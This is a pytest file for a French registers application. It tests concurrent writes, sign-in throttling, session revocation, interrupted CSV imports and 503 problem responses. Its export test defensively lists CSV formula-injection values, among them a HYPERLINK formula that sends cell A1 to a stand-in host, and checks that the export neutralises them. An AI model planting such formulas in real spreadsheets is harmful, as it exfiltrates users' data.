"""Registers under concurrency and interruption (issue 15 §3), on SQLite and PostgreSQL: follow-up notes
written at once, the sign-in throttle across requests and processes, revocable sessions, all-or-nothing
imports (error, Ctrl-C, kill -9), malformed CSV rows, formula cells in exports, SQLite contention as a
503 problem, ``Allow`` on 405 and problem details in the OpenAPI schema."""

from __future__ import annotations

import os
import signal
import sqlite3
import subprocess
import sys
import threading
import time
import warnings
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from sqlalchemy import func, select
from typer.testing import CliRunner

import test_registers_support as support
from accesoins.cli import app as cli_app
from accesoins.http_problems import install_problem_handlers
from accesoins.registers import SYSTEM, Registers, create_registers_app, export_csv, import_csv, make_engine
from accesoins.registers._app import install_registers
from accesoins.registers._csv import RegisterImportError
from accesoins.registers._models import InstallationRequest
from accesoins.registers._schemas import RequestCreate
from accesoins.registers._security import LOGIN_ATTEMPTS
from test_registers_support import PASSWORD, REQUEST

with warnings.catch_warnings():  # starlette's TestClient announces its move to httpx2 when imported
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

postgres, db_url = support.postgres, support.db_url
AGENT = SYSTEM.__class__(7, "agent@example.org", "agent")
A = "/registres/api"
HEADER = "professional_name;profession;email;wished_lat;wished_lon;notes\n"


def _at_once(n: int, work: Callable[[int], Any]) -> list[Any]:
    """Run ``work(i)`` in ``n`` threads released together; results (or raised exceptions) in order."""
    barrier = threading.Barrier(n)
    results: list[Any] = [None] * n

    def run(i: int) -> None:
        barrier.wait()
        try:
            results[i] = work(i)
        except Exception as exc:  # collected: the test names every failure
            results[i] = exc

    threads = [threading.Thread(target=run, args=(i,)) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return results


@pytest.fixture()
def regs(db_url: str) -> Iterator[Registers]:
    registers = Registers(make_engine(db_url))
    yield registers
    registers.engine.dispose()


def _rows(regs: Registers) -> int:
    with regs.session() as s:
        return int(s.scalar(select(func.count()).select_from(InstallationRequest)) or 0)


def _csv(path: Path, n: int) -> Path:
    lines = [f"Dr {i};generaliste;dr{i}@example.org;44.84;-0.64;note {i}" for i in range(n)]
    path.write_text(HEADER + "\n".join(lines) + "\n", encoding="utf-8")
    return path


# --- follow-up notes ------------------------------------------------------------------------------------
def test_follow_up_notes_written_at_once_are_all_kept(regs: Registers) -> None:
    request_id = regs.create_request(AGENT, RequestCreate(**{**REQUEST, "notes": ""})).id
    results = _at_once(
        20, lambda i: regs.follow_up(AGENT, request_id, status="en_cours", note=f"appel n° {i}")
    )
    assert [r for r in results if isinstance(r, Exception)] == []
    notes = regs.request(AGENT, request_id).notes.splitlines()
    assert sorted(n.rsplit(" : ", 1)[1] for n in notes) == sorted(f"appel n° {i}" for i in range(20))
    assert all("(agent@example.org)" in n for n in notes)
    closed = regs.follow_up(AGENT, request_id, status="installee", note="")
    assert (
        closed.status == "installee" and closed.closed_on is not None and len(closed.notes.splitlines()) == 20
    )


# --- sign-in throttle -------------------------------------------------------------------------------------
def test_sign_in_throttle_holds_across_threads_and_processes(regs: Registers, db_url: str) -> None:
    other = Registers(make_engine(db_url))  # a second server process on the same base
    try:
        results = _at_once(40, lambda i: (regs if i % 2 else other).sign_in_allowed("Cible@Example.org "))
        assert [r for r in results if isinstance(r, Exception)] == []
        assert sum(results) <= LOGIN_ATTEMPTS  # never more; fewer when the burst commits before counting
        assert not other.sign_in_allowed("cible@example.org")
        assert regs.sign_in_allowed("autre@example.org")
        regs.sign_in_succeeded("CIBLE@example.org")  # the right password clears the count
        one_by_one = [
            (regs, other)[i % 2].sign_in_allowed("cible@example.org") for i in range(LOGIN_ATTEMPTS + 1)
        ]
        assert one_by_one == [True] * LOGIN_ATTEMPTS + [False]
    finally:
        other.engine.dispose()


# --- sessions -------------------------------------------------------------------------------------------
def test_logout_and_password_change_end_sessions(tmp_path: Path) -> None:
    app = create_registers_app(f"sqlite:///{tmp_path / 'r.sqlite'}", secret="secret-de-test")
    regs: Registers = app.state.registers
    regs.create_user("agent@example.org", PASSWORD, role="agent")
    credentials = {"email": "agent@example.org", "password": PASSWORD}
    with TestClient(app) as first, TestClient(app) as second:
        csrf = first.post(f"{A}/session", json=credentials).json()["csrf_token"]
        stolen = dict(first.cookies.items())
        assert first.get(f"{A}/demandes").status_code == 200
        assert first.delete(f"{A}/session", headers={"X-CSRF-Token": csrf}).status_code == 204
        with TestClient(app, cookies=stolen) as thief:
            assert thief.get(f"{A}/demandes").status_code == 401
        second.post(f"{A}/session", json=credentials)
        assert second.get(f"{A}/demandes").status_code == 200
        runner = CliRunner()
        db = str(regs.engine.url)
        changed = runner.invoke(
            cli_app,
            ["registers", "set-password", "AGENT@example.org", "--password", "neuf-2026-neuf", "--db", db],
        )
        assert changed.exit_code == 0 and "sessions ouvertes sont fermées" in changed.output
        assert second.get(f"{A}/demandes").status_code == 401
        assert second.post(f"{A}/session", json=credentials).status_code == 401
        assert (
            second.post(f"{A}/session", json={**credentials, "password": "neuf-2026-neuf"}).status_code == 200
        )
    regs.engine.dispose()


# --- imports --------------------------------------------------------------------------------------------
def test_interrupted_import_leaves_nothing(regs: Registers, tmp_path: Path) -> None:
    path = _csv(tmp_path / "demandes.csv", 200)

    def stop(done: int, total: int) -> None:
        if done == 120:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        import_csv(regs, "demandes", path, actor=SYSTEM, progress=stop)
    assert _rows(regs) == 0
    seen: list[tuple[int, int]] = []
    assert import_csv(regs, "demandes", path, actor=SYSTEM, progress=lambda d, t: seen.append((d, t))) == 200
    assert _rows(regs) == 200 and seen[0] == (1, 200) and seen[-1] == (200, 200)


def test_cli_import_interrupted_says_nothing_was_added(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ACCESOINS_STORE", str(tmp_path / "absent.duckdb"))
    db = f"sqlite:///{tmp_path / 'cli.sqlite'}"
    path = _csv(tmp_path / "demandes.csv", 30)
    create = Registers.create_request

    def flaky(self: Registers, actor: Any, data: Any) -> Any:
        if data.professional_name == "Dr 17":
            raise KeyboardInterrupt
        return create(self, actor, data)

    monkeypatch.setattr(Registers, "create_request", flaky)
    result = CliRunner().invoke(cli_app, ["registers", "import", "demandes", str(path), "--db", db])
    assert result.exit_code == 130
    assert "aucune ligne n'a été ajoutée au registre « demandes »" in " ".join(result.output.split())
    engine = make_engine(db)
    assert _rows(Registers(engine)) == 0
    engine.dispose()


@pytest.mark.slow
def test_killed_import_leaves_nothing(tmp_path: Path) -> None:
    """kill -9 in the middle of an import of 3,000 rows: the base holds none of them."""
    url = f"sqlite:///{tmp_path / 'r.sqlite'}"
    path = _csv(tmp_path / "demandes.csv", 3000)
    marker = tmp_path / "halfway"
    script = f"""
import pathlib, time
from accesoins.registers import SYSTEM, import_csv, open_registers
regs = open_registers({url!r})
def progress(done, total):
    if done == 1500:
        pathlib.Path({str(marker)!r}).touch()
        time.sleep(60)
import_csv(regs, "demandes", {str(path)!r}, actor=SYSTEM, progress=progress)
"""
    log = tmp_path / "stderr.txt"
    with log.open("wb") as stderr:
        proc = subprocess.Popen([sys.executable, "-c", script], env={**os.environ}, stderr=stderr)
        deadline = time.monotonic() + 120
        while not marker.exists():
            assert proc.poll() is None, log.read_text()
            assert time.monotonic() < deadline, "l'import n'a pas atteint la moitié en 120 s"
            time.sleep(0.1)
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
    engine = make_engine(url)
    assert _rows(Registers(engine)) == 0
    engine.dispose()


@pytest.mark.parametrize(
    ("body", "line", "message"),
    [
        (
            'Dr A;generaliste;a@x.org;44.8;-0.6;"appel\nDr B;generaliste;b@x.org;44.8;-0.6;ok\n',
            2,
            "guillemet",
        ),
        (
            'Dr A;generaliste;a@x.org;44.8;-0.6;"appel\nDr B;generaliste;b@x.org;44.8;-0.6;ok\n'
            'Dr C;generaliste;c@x.org;44.8;-0.6;fin"\n',
            2,
            "guillemet isolé",
        ),
        ('Dr A;generaliste;a@x.org;44.8;-0.6;"appel" puis\n', 2, "guillemet mal placé"),
        ("Dr A;generaliste;a@x.org;44.8;-0.6;ok\nDr B;generaliste;b@x.org;44.8\n", 3, "4 valeur(s) pour 6"),
        ("Dr A;generaliste;a@x.org;44.8;-0.6;ok;en trop\n", 2, "7 valeur(s) pour 6"),
    ],
)
def test_malformed_csv_rows_are_errors_with_their_line(
    regs: Registers, tmp_path: Path, body: str, line: int, message: str
) -> None:
    path = tmp_path / "demandes.csv"
    path.write_text(HEADER + body, encoding="utf-8")
    with pytest.raises(RegisterImportError) as caught:
        import_csv(regs, "demandes", path, actor=SYSTEM)
    assert f"{path}, ligne {line}" in str(caught.value) and message in str(caught.value)
    assert _rows(regs) == 0


def test_quoted_multiline_note_is_still_accepted(regs: Registers, tmp_path: Path) -> None:
    path = tmp_path / "demandes.csv"
    path.write_text(
        HEADER + 'Dr A;generaliste;a@x.org;44.8;-0.6;"appel ; rappel\nen juin"\n', encoding="utf-8"
    )
    assert import_csv(regs, "demandes", path, actor=SYSTEM) == 1
    assert regs.requests(AGENT)[0].notes == "appel ; rappel\nen juin"


# --- exports --------------------------------------------------------------------------------------------
def test_export_neutralises_formula_cells_and_imports_back(regs: Registers, tmp_path: Path) -> None:
    evil = ['=HYPERLINK("http://x.example/?"&A1;"clic")', "+33 6 00", "-1+2", "@SUM(A1)", "\tcmd", "\rcmd"]
    for i, text in enumerate(evil):
        regs.create_request(
            AGENT, RequestCreate(**{**REQUEST, "professional_name": f"Dr {i}", "project": text})
        )
    out = tmp_path / "demandes.csv"
    export_csv(regs, "demandes", out, actor=SYSTEM)
    import csv

    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f, delimiter=";"))
    assert [r["project"] for r in rows] == ["'" + text for text in evil]
    assert rows[0]["wished_lon"] == str(REQUEST["wished_lon"])  # a negative number stays a number
    assert import_csv(regs, "demandes", out, actor=SYSTEM) == len(evil)
    imported = [r.project for r in regs.requests(AGENT)][len(evil) :]
    assert imported == [text.strip() for text in evil]  # import trims spaces, as for any cell


# --- HTTP: contention, 405, OpenAPI --------------------------------------------------------------------
def test_sqlite_writers_at_once_queue_instead_of_failing(tmp_path: Path) -> None:
    regs = Registers(make_engine(f"sqlite:///{tmp_path / 'r.sqlite'}"))
    from accesoins.registers import migrate

    migrate(regs.engine)
    request_id = regs.create_request(AGENT, RequestCreate(**REQUEST)).id

    def work(i: int) -> None:
        for _ in range(3):
            regs.request(AGENT, request_id)  # reads, then writes the audit log
            regs.create_request(AGENT, RequestCreate(**{**REQUEST, "professional_name": f"Dr {i}"}))

    assert [r for r in _at_once(16, work) if r is not None] == []
    assert _rows(regs) == 1 + 16 * 3
    regs.engine.dispose()


def test_sqlite_contention_is_a_503_problem_with_retry_after(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    setup = create_registers_app(f"sqlite:///{path}", secret="s")
    setup.state.registers.create_user("agent@example.org", PASSWORD, role="agent")
    setup.state.registers.engine.dispose()
    app = FastAPI()
    install_problem_handlers(app)
    install_registers(app, Registers(make_engine(f"sqlite:///{path}", busy_timeout_s=0.2)), secret="s")
    with TestClient(app) as client:
        signed = client.post(f"{A}/session", json={"email": "agent@example.org", "password": PASSWORD})
        headers = {"X-CSRF-Token": signed.json()["csrf_token"]}
        holder = sqlite3.connect(path, isolation_level=None)
        holder.execute("BEGIN IMMEDIATE")  # another process writing for a long time
        try:
            r = client.post(f"{A}/demandes", json=REQUEST, headers=headers)
        finally:
            holder.execute("ROLLBACK")
            holder.close()
        assert r.status_code == 503, r.text
        assert r.headers["content-type"] == "application/problem+json"
        assert r.headers["retry-after"] == "2"
        assert "rien n'a été enregistré" in r.json()["detail"]
        assert client.post(f"{A}/demandes", json=REQUEST, headers=headers).status_code == 201
    app.state.registers.engine.dispose()


def test_405_allow_and_problems_in_the_openapi_schema(tmp_path: Path) -> None:
    app = create_registers_app(f"sqlite:///{tmp_path / 'r.sqlite'}", secret="s")
    with TestClient(app) as client:
        r = client.delete(f"{A}/comptes")
        assert r.status_code == 405 and r.headers["content-type"] == "application/problem+json"
        assert set(r.headers["allow"].replace(" ", "").split(",")) == {"GET", "POST"}
        schema = client.get(f"{A}/openapi.json").json()
    assert "Problem" in schema["components"]["schemas"]
    assert "HTTPValidationError" not in schema["components"]["schemas"]
    one = schema["paths"][f"{A}/demandes/{{request_id}}"]["get"]["responses"]
    assert {"401", "403", "404", "422", "503"} <= set(one)
    for status in ("401", "403", "404", "422", "503"):
        body = one[status]["content"]["application/problem+json"]["schema"]
        assert body == {"$ref": "#/components/schemas/Problem"}
    assert {"401", "429"} <= set(schema["paths"][f"{A}/session"]["post"]["responses"])
    public = schema["paths"][f"{A}/annuaire"]["get"]["responses"]
    assert "401" not in public and "422" in public
    app.state.registers.engine.dispose()


def test_the_served_application_mounts_both_with_one_problems_module(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from accesoins.app import create_app

    monkeypatch.setenv("ACCESOINS_REGISTERS_URL", f"sqlite:///{tmp_path / 'r.sqlite'}")
    monkeypatch.setenv("ACCESOINS_REGISTERS_SECRET", "s")
    app = create_app(tmp_path / "absent.duckdb", warm=False)
    with TestClient(app) as client:
        web = client.delete("/api/snapshots")
        assert web.status_code == 405 and web.headers["allow"] == "GET"
        assert web.headers["content-type"] == "application/problem+json"
        registers = client.put(f"{A}/demandes")
        assert registers.status_code == 405 and registers.headers["allow"] == "GET, POST"
        schema = client.get("/api/openapi.json").json()
    layers = schema["paths"]["/api/layers/{level}"]["get"]["responses"]["404"]
    assert layers["content"]["application/problem+json"]["schema"] == {"$ref": "#/components/schemas/Problem"}
    assert f"{A}/demandes" in schema["paths"]
    app.state.registers.engine.dispose()
